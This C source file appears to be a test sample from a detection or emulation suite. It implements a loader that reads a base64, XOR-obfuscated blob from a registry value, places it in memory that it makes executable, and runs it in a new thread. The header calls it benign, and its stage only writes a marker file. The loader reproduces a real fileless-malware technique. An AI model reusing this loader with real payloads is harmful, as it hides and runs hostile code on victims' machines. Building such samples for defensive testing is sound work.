/*
 * loader.c - generality suite: registry value -> base64 -> XOR -> RW memory -> RX -> thread.
 * Benign, emulator-only (see ../../lineage-common/common.h).
 *
 * Reads REG_SZ HKCU\Software\ChainreplayDemo\Blob, base64-decodes it with CryptStringToBinaryA
 * into a buffer on the stack, XORs it with the one-byte key 0x5c into a new PAGE_READWRITE
 * allocation, makes that PAGE_EXECUTE_READ with VirtualProtect and runs it in a new thread.
 * The stage writes C:\Users\Public\lineage_reg.txt.
 * Exit codes: 0 ok, 1 no marker, 2 registry, 3 base64, 4 memory, 5 thread.
 */
#include "common.h"
#include <wincrypt.h>

#define XOR_KEY 0x5c

void Entry(void)
{
    static struct sc_ctx ctx;
    char text[8192];
    BYTE raw[6144];
    DWORD type = 0, cb = sizeof(text) - 1, n = sizeof(raw), i, old;
    HKEY key;
    unsigned char *mem;
    HANDLE thread;

    if (!marker_present())
        ExitProcess(1);
    if (RegOpenKeyExA(HKEY_CURRENT_USER, "Software\\ChainreplayDemo", 0, KEY_READ, &key) != ERROR_SUCCESS)
        ExitProcess(2);
    if (RegQueryValueExA(key, "Blob", 0, &type, (BYTE *)text, &cb) != ERROR_SUCCESS || type != REG_SZ)
        ExitProcess(2);
    RegCloseKey(key);
    text[cb] = 0;
    if (!CryptStringToBinaryA(text, 0, CRYPT_STRING_BASE64, raw, &n, 0, 0) || n == 0)
        ExitProcess(3);
    mem = (unsigned char *)VirtualAlloc(0, n, MEM_COMMIT | MEM_RESERVE, PAGE_READWRITE);
    if (!mem)
        ExitProcess(4);
    for (i = 0; i < n; i++)
        mem[i] = raw[i] ^ XOR_KEY;
    if (!VirtualProtect(mem, n, PAGE_EXECUTE_READ, &old))
        ExitProcess(4);
    fill_ctx(&ctx, "C:\\Users\\Public\\lineage_reg.txt", "decoded from the registry\n");
    thread = CreateThread(0, 0, (LPTHREAD_START_ROUTINE)(void *)mem, &ctx, 0, 0);
    if (!thread)
        ExitProcess(5);
    WaitForSingleObject(thread, INFINITE);
    ExitProcess(0);
}
